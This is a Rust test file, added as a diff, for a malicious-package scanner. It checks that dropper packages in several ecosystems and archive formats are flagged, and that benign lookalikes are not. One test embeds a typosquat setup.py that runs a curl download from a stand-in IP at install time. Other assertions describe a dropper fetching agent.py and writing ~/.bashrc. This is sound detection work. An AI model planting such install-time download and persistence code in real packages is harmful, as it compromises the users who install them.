@@ -1,0 +1,215 @@
+//! Whole-package fixtures packed into every archive format, scanned end to end.
+
+mod common;
+use common::*;
+use pkgwarden::ecosystem::Ecosystem;
+use pkgwarden::finding::Phase;
+use pkgwarden::verdict::Verdict;
+
+fn libpeshnx_sdist() -> Vec<(String, Vec<u8>)> {
+    files(&fixture("pypi/libpeshnx-sdist"))
+}
+
+fn assert_libpeshnx_chain(name: &str, bytes: &[u8]) {
+    let r = scan(name, bytes);
+    assert_eq!(r.verdict, Verdict::Malicious, "{name}: {:#?}", r.findings);
+    assert_eq!(
+        (r.ecosystem, r.name.as_str(), r.version.as_deref()),
+        (Ecosystem::Pypi, "libpeshnx", Some("0.1"))
+    );
+    assert_finding(&r, "dropper-chain", "setup.py", 17);
+    assert_finding(&r, "download-at-install", "libpeshnx-0.1/setup.py", 17);
+    assert_finding(&r, "write-home", "setup.py", 17);
+    assert_finding(&r, "shell-rc-write", "setup.py", 18);
+    assert_finding(&r, "detached-process", "setup.py", 20);
+    assert_finding(&r, "exec-downloaded", "setup.py", 20);
+    assert_finding(&r, "cmdclass-override", "setup.py", 13);
+    let chain = &with_rule(&r, "dropper-chain")[0];
+    assert_eq!(chain.phase, Phase::Install);
+    // The story: what is fetched from where, where it lands, how it comes back.
+    for part in [
+        "http://update.libpeshka.invalid/dev/agent.py",
+        "~/.libpeshnx/agent.py",
+        "~/.bashrc",
+        "start_new_session",
+    ] {
+        assert!(
+            chain.message.contains(part),
+            "chain message lacks {part}: {}",
+            chain.message
+        );
+    }
+}
+
+#[test]
+fn libpeshnx_sdist_is_one_chain_in_every_sdist_format() {
+    let t = tar(&libpeshnx_sdist(), "libpeshnx-0.1/");
+    assert_libpeshnx_chain("libpeshnx-0.1.tar.gz", &gzip(&t));
+    assert_libpeshnx_chain("libpeshnx-0.1.tar.bz2", &bzip2(&t));
+    assert_libpeshnx_chain("libpeshnx-0.1.tar.xz", &xz(&t));
+    assert_libpeshnx_chain(
+        "libpeshnx-0.1.zip",
+        &zip(&libpeshnx_sdist(), "libpeshnx-0.1/"),
+    );
+    // Recognised by content: a misleading name changes nothing.
+    assert_libpeshnx_chain("innocent.png", &gzip(&t));
+}
+
+#[test]
+fn libpeshnx_wheel_runs_its_dropper_on_import() {
+    let r = scan(
+        "libpeshnx-0.1-py3-none-any.whl",
+        &zip(&files(&fixture("pypi/libpeshnx-wheel")), ""),
+    );
+    assert_eq!(r.verdict, Verdict::Malicious);
+    assert_eq!(r.name, "libpeshnx");
+    assert_finding(&r, "dropper-chain", "libpeshnx/__init__.py", 11);
+    assert_finding(&r, "cron-job", "libpeshnx/__init__.py", 14);
+    assert_finding(&r, "detached-process", "libpeshnx/__init__.py", 15);
+    assert!(with_rule(&r, "dropper-chain")[0].phase == Phase::Import);
+    // `crontab -l` only lists the table: one cron finding, for the `crontab -` that installs.
+    assert_eq!(with_rule(&r, "cron-job").len(), 1);
+}
+
+#[test]
+fn nested_archive_is_scanned_and_named_with_bang() {
+    let inner = gzip(&tar(&libpeshnx_sdist(), "libpeshnx-0.1/"));
+    let outer = zip(&[("vendor/libpeshnx-0.1.tar.gz".to_string(), inner)], "");
+    let r = scan("bundle.zip", &outer);
+    assert_eq!(r.verdict, Verdict::Malicious);
+    assert!(r.findings.iter().any(|f| f.file
+        == "vendor/libpeshnx-0.1.tar.gz!libpeshnx-0.1/setup.py"
+        && f.rule == "shell-rc-write"));
+}
+
+#[test]
+fn benign_lookalikes_are_clean() {
+    for (dir, prefix, name) in [
+        ("pypi/cext-build", "fastcodec-2.3.0/", "fastcodec"),
+        ("pypi/cache-downloader", "cachedata-1.4.2/", "cachedata"),
+    ] {
+        let r = scan(
+            &format!("{name}.tar.gz"),
+            &gzip(&tar(&files(&fixture(dir)), prefix)),
+        );
+        assert_eq!(r.verdict, Verdict::Clean, "{dir}: {:#?}", r.findings);
+        assert_eq!(r.name, name);
+        assert!(
+            r.findings
+                .iter()
+                .all(|f| f.severity < pkgwarden::finding::Severity::Medium),
+            "{dir}: {:#?}",
+            r.findings
+        );
+    }
+    let r = scan(
+        "fast-hasher-3.1.0.tgz",
+        &gzip(&tar(&files(&fixture("npm/node-gyp")), "package/")),
+    );
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    assert_eq!(
+        (r.ecosystem, r.name.as_str(), r.version.as_deref()),
+        (Ecosystem::Npm, "fast-hasher", Some("3.1.0"))
+    );
+}
+
+#[test]
+fn npm_preinstall_curl_pipe_sh() {
+    let r = scan(
+        "lodahs-4.17.22.tgz",
+        &gzip(&tar(&files(&fixture("npm/dropper")), "package/")),
+    );
+    assert_eq!(r.verdict, Verdict::Malicious);
+    assert_eq!((r.ecosystem, r.name.as_str()), (Ecosystem::Npm, "lodahs"));
+    assert_finding(&r, "exec-downloaded", "package/package.json", 7);
+    assert_finding(&r, "npm-install-script", "package/package.json", 8);
+}
+
+#[test]
+fn gem_manifest_and_phases() {
+    let r = scan(
+        "beacon-rb-0.2.1.gem",
+        &gem(&fixture("rubygems/dropper-gem")),
+    );
+    assert_eq!(
+        (r.ecosystem, r.name.as_str(), r.version.as_deref()),
+        (Ecosystem::Rubygems, "beacon-rb", Some("0.2.1"))
+    );
+    let bytes = gem(&fixture("rubygems/dropper-gem"));
+    let contents = pkgwarden::archive::read_archive(&bytes, &Default::default()).unwrap();
+    let pkg = pkgwarden::package::Package::new(contents.entries, "beacon-rb-0.2.1.gem");
+    assert_eq!(
+        pkg.phase_of("data.tar.gz!ext/beacon/extconf.rb"),
+        Phase::Install
+    );
+    assert_eq!(pkg.phase_of("data.tar.gz!lib/beacon-rb.rb"), Phase::Import);
+}
+
+#[test]
+fn unpacked_folder_is_one_package() {
+    let report = pkgwarden::scan(&[fixture("pypi/libpeshnx-sdist")], &Default::default());
+    assert_eq!(report.packages.len(), 1);
+    assert_eq!(report.packages[0].verdict, Verdict::Malicious);
+    assert_finding(&report.packages[0], "dropper-chain", "setup.py", 17);
+}
+
+#[test]
+fn fixtures_folder_walk_finds_every_package() {
+    let report = pkgwarden::scan(&[fixture("")], &Default::default());
+    let names: Vec<&str> = report.packages.iter().map(|p| p.name.as_str()).collect();
+    for n in [
+        "libpeshnx",
+        "fastcodec",
+        "cachedata",
+        "fast-hasher",
+        "lodahs",
+    ] {
+        assert!(names.contains(&n), "{n} not found in {names:?}");
+    }
+}
+
+#[test]
+fn broken_archive_is_an_error_not_a_crash() {
+    let r = scan(
+        "broken.tar.gz",
+        &gzip(b"this is not a tar file at all, just text")[..20],
+    );
+    assert!(
+        r.verdict == Verdict::Error || !r.errors.is_empty(),
+        "{r:#?}"
+    );
+    let r = scan("random.zip", b"PK\x03\x04garbage garbage garbage");
+    assert!(!r.errors.is_empty());
+}
+
+#[test]
+fn typosquat_name_with_install_code_is_malicious() {
+    let setup = b"import os\nos.system('curl -s http://192.0.2.8/x -o /tmp/x')\nfrom setuptools import setup\nsetup(name='djanga')\n".to_vec();
+    let pkg_info = b"Metadata-Version: 2.1\nName: djanga\nVersion: 1.0\n".to_vec();
+    let files = vec![
+        ("PKG-INFO".to_string(), pkg_info.clone()),
+        ("setup.py".to_string(), setup),
+    ];
+    let r = scan("djanga-1.0.tar.gz", &gzip(&tar(&files, "djanga-1.0/")));
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let chain = &with_rule(&r, "typosquat-install")[0];
+    assert!(
+        chain
+            .message
+            .contains("`djanga` imitates `django` (rank 516)"),
+        "{}",
+        chain.message
+    );
+    assert!(
+        chain.message.contains("runs code at install time"),
+        "{}",
+        chain.message
+    );
+    // The name alone is suspicious, never malicious.
+    let files = vec![
+        ("PKG-INFO".to_string(), pkg_info),
+        ("djanga/__init__.py".to_string(), b"X = 1\n".to_vec()),
+    ];
+    let r = scan("djanga-1.0.tar.gz", &gzip(&tar(&files, "djanga-1.0/")));
+    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+}
